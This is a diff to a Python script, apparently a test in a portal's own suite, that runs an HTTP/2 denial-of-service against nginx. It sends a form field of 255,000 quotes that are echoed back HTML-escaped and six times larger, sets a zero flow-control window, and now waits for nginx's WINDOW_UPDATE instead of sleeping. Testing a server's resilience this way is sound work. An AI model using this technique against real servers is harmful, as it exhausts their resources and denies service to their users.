@@ -11,7 +11,8 @@ from portaal import POORT, Browser, tls, workers
 # The page that says a session has ended gives back all that was typed; a quote is six bytes of HTML.
 VELD = b"naam=" + b'"' * 255_000
 GRENS = 3.0
-HEADERS, DATA, SETTINGS, END_HEADERS, END_STREAM, INITIAL_WINDOW = 1, 0, 4, 4, 1, 4
+DATA, HEADERS, SETTINGS, WINDOW_UPDATE = 0, 1, 4, 8
+END_STREAM, END_HEADERS, INITIAL_WINDOW = 1, 4, 4
 
 
 def frame(soort, vlaggen, stroom, inhoud):
@@ -24,6 +25,23 @@ def kop(naam, waarde):
     return bytes([0, len(n)]) + n + bytes([len(w)]) + w
 
 
+def wacht_op_ruimte(s):
+    """Reads until nginx says that the whole body may come."""
+    def precies(n):
+        uit = b""
+        while len(uit) < n:
+            deel = s.recv(n - len(uit))
+            if not deel:
+                raise ConnectionError("nginx hung up")
+            uit += deel
+        return uit
+    soort = stroom = None
+    while (soort, stroom) != (WINDOW_UPDATE, 1):
+        hoofd = precies(9)
+        soort, stroom = hoofd[3], int.from_bytes(hoofd[5:], "big")
+        precies(int.from_bytes(hoofd[:3], "big"))
+
+
 def traag():
     """Asks over HTTP/2 for the largest page there is, and lets not one byte of it come (a window of 0)."""
     tls_h2 = tls()
@@ -34,7 +52,7 @@ def traag():
         "content-type": "application/x-www-form-urlencoded", "content-length": str(len(VELD))}.items())
     s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW, 0))
               + frame(HEADERS, END_HEADERS, 1, koppen))
-    time.sleep(0.3)  # nginx makes room for the body
+    wacht_op_ruimte(s)
     delen = [VELD[i:i + 16000] for i in range(0, len(VELD), 16000)]
     for deel in delen:
         s.sendall(frame(DATA, END_STREAM if deel is delen[-1] else 0, 1, deel))
